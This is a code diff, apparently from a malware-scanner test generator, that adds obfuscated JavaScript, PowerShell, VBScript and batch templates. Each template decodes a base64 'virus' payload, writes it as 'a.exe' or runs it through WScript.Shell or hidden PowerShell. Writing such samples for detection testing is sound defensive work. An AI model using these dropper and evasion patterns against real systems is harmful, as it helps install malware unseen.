@@ -347,6 +347,10 @@ def put_together(virus, coded):
             ("a word, split", (b"-x-",), b".split('-x-').join('')")):
         scripts["with " + what] = b"var d = atob('" + b"".join(
             coded[at:at + 3] + signs[at % len(signs)] for at in range(0, len(coded), 3)) + b"'" + script + b");"
+    for blank in b" ", b"\t", b"\n":
+        scripts[f"with blanks {blank}"] = b"var d = atob(`" + blank.join(
+            coded[at:at + 3] for at in range(0, len(coded), 3)) + b"`);"
+    scripts["small letters for capital ones"] = b"var d = f('" + coded.swapcase() + b"');"
     scripts["with a sign for a letter"] = b"var d = atob('" + coded.replace(b"A", b"!") + b"'.replace(/!/g, 'A'));"
     for comment in b" /* c */ + ", b" + // c\n", b"/*a*/+/*b*/":
         scripts[f"with comments {comment}"] = b"var d = atob(" + comment.join(
@@ -385,6 +389,23 @@ def put_together(virus, coded):
                                         + b" & _\r\n    ".join(b'"%s"' % line for line in lines) + b"\r\n")
     yield "script: numbers of VBScript", b"Dim s\r\ns = " + b" & ".join(
         b"Chr(&H%02X)" % byte for byte in virus) + b"\r\n"
+    with_signs = b"'" + coded.replace(b"A", b"@#") + b"'"
+    for what, text in {
+            "Replace of PowerShell": with_signs + b".Replace('@#', 'A')",
+            "-replace": with_signs + b" -rEPlace '@#','A'",
+            "-split": b"'" + b"!".join(coded[at:at + 3] for at in range(0, len(coded), 3)) + b"' -split '!' -join ''",
+            "numbers": b"; $b = " + b",".join(b"%d" % byte for byte in virus),
+            "letters": b"; $b = " + b"+".join(b"[char]%d" % byte for byte in virus)}.items():
+        yield f"script: {what}", (b"$a = (" + text + b")\r\n[IO.File]::WriteAllBytes('a.exe', [Convert]::"
+                                  b"FromBase64String($a))\r\n")
+    for what, text in {
+            "Replace of VBScript": b"Replace(\"" + with_signs[1:-1] + b"\", \"@#\", \"A\")",
+            "Replace by name": b"\"" + with_signs[1:-1] + b"\"\r\ns = Replace(s, \"@#\", \"A\")",
+            "Split of VBScript": b"Join(Split(\"" + b"-x-".join(
+                coded[at:at + 9] for at in range(0, len(coded), 9)) + b"\", \"-x-\"), \"\")",
+            "Array of VBScript": b"Array(" + b",".join(b"%d" % byte for byte in virus) + b")"}.items():
+        yield f"script: {what}", (b"' A comment\r\n" * 60 + b"Dim s\r\ns = " + text
+                                  + b"\r\nCreateObject(\"WScript.Shell\").Run s\r\n")
     command = f"[IO.File]::WriteAllBytes('a.exe', [Convert]::FromBase64String('{coded.decode()}'))"
     yield "script: a command of PowerShell", b"@echo off\r\npowershell -w hidden -e " + base64.b64encode(
         command.encode("utf-16-le")) + b"\r\n"
